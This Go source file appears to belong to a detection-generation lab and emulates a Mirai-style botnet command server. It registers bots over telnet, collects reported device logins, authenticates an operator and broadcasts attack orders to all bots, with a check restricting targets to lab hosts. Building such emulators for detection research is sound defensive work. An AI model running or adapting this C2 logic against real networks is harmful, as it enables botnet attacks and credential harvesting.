package mirai

import (
	"bufio"
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"detgen/emulator/internal/options"
	"detgen/emulator/internal/peer"
	"detgen/lab/inside"
)

// server keeps the bots that are connected.
type server struct {
	user, password string
	lab            func(host string) error // refuses what is no host of the lab

	mu   sync.Mutex // of everything below
	bots map[net.Conn]string
	note func(...any)
}

// Server is the main of the command server. It prints "bot NAME", "ping NAME", "left NAME", "login ADDRESS USER" for each
// report, "operator USER", "denied" and "order ...", and ends with the context.
func Server(ctx context.Context, args []string) error {
	f := flag.NewFlagSet("mirai-server", flag.ContinueOnError)
	listen := f.String("listen", ":23", "address of bots and operators")
	reports := f.String("reports", ":48101", "address of reports")
	user := f.String("user", "", "of the operator")
	password := f.String("password", "", "of the operator")
	if err := options.Parse(f, args, "user", "password"); err != nil {
		return err
	}
	s := &server{
		user: *user, password: *password, lab: inside.LabHost,
		bots: map[net.Conn]string{}, note: func(words ...any) { fmt.Println(words...) },
	}
	commands, err := net.Listen("tcp", *listen)
	if err != nil {
		return err
	}
	found, err := net.Listen("tcp", *reports)
	if err != nil {
		commands.Close()
		return err
	}
	return s.serve(ctx, commands, found)
}

// serve takes connections at both places until the context ends.
func (s *server) serve(ctx context.Context, commands, reports net.Listener) error {
	var all sync.WaitGroup
	defer all.Wait()
	all.Go(func() { peer.Accept(ctx, reports, botsMost, s.takeReport) })
	return peer.Accept(ctx, commands, botsMost, s.attend)
}

func (s *server) say(words ...any) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.note(words...)
}

func (s *server) takeReport(c net.Conn) {
	c.SetDeadline(time.Now().Add(patience))
	if f, err := takeFound(c); err == nil {
		s.say("login", f.address, f.user)
	}
}

// attend looks at the first byte: a bot's is 0, an operator's the first of a telnet command.
func (s *server) attend(c net.Conn) {
	r := bufio.NewReader(c)
	first, err := r.Peek(1)
	if err != nil {
		return
	}
	if first[0] == 0 {
		s.attendBot(c, r)
		return
	}
	s.attendOperator(c, r)
}

func (s *server) attendBot(c net.Conn, r io.Reader) {
	var head [5]byte
	if _, err := io.ReadFull(r, head[:]); err != nil || head[3] != 1 {
		return
	}
	b := make([]byte, head[4])
	if _, err := io.ReadFull(r, b); err != nil {
		return
	}
	name := string(b)
	s.mu.Lock()
	s.bots[c] = name
	s.note("bot", name)
	s.mu.Unlock()
	defer func() {
		s.mu.Lock()
		delete(s.bots, c)
		s.note("left", name)
		s.mu.Unlock()
	}()
	for range pingsMost {
		var ping [2]byte
		if _, err := io.ReadFull(r, ping[:]); err != nil || ping != [2]byte{} {
			return
		}
		s.say("ping", name)
		if _, err := c.Write(ping[:]); err != nil {
			return
		}
	}
}

// attendOperator speaks with an operator, who sees a prompt and types lines.
func (s *server) attendOperator(c net.Conn, r *bufio.Reader) {
	c.Write([]byte{iac, will, echo, iac, will, goAhead, iac, wont, lineMode})
	ask := func(prompt string) (string, error) {
		if _, err := io.WriteString(c, prompt); err != nil {
			return "", err
		}
		return readLine(r)
	}
	user, err := ask("\r\nusername: ")
	if err != nil {
		return
	}
	password, err := ask("password: ")
	if err != nil {
		return
	}
	if user != s.user || password != s.password {
		s.say("denied")
		io.WriteString(c, "\r\nwrong username or password\r\n")
		return
	}
	s.say("operator", user)
	for {
		line, err := ask("\r\n" + user + "@botnet# ")
		if err != nil || line == "exit" {
			return
		}
		io.WriteString(c, line+"\r\n"+s.obey(line)) // it echoes what is typed
	}
}

// obey does what an operator types, and gives the answer.
func (s *server) obey(line string) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	if line == "botcount" {
		return fmt.Sprintf("bots: %d", len(s.bots))
	}
	o, err := readOrder(line)
	if err == nil {
		err = s.lab(o.target.String())
	}
	if err != nil {
		return "error: " + err.Error()
	}
	s.note("order", o)
	for c := range s.bots {
		c.Write(o.bytes()) // who has gone is found out where it is read
	}
	return fmt.Sprintf("sent to %d", len(s.bots))
}

// readLine reads a line without the telnet commands in it.
func readLine(r *bufio.Reader) (string, error) {
	var line strings.Builder
	for line.Len() < 256 {
		b, err := r.ReadByte()
		if err != nil {
			return "", err
		}
		switch b {
		case iac: // a client's are three bytes long
			if _, err := r.Discard(2); err != nil {
				return "", err
			}
		case '\r':
		case '\n':
			return line.String(), nil
		default:
			line.WriteByte(b)
		}
	}
	return "", errors.New("line of more than 256 bytes")
}
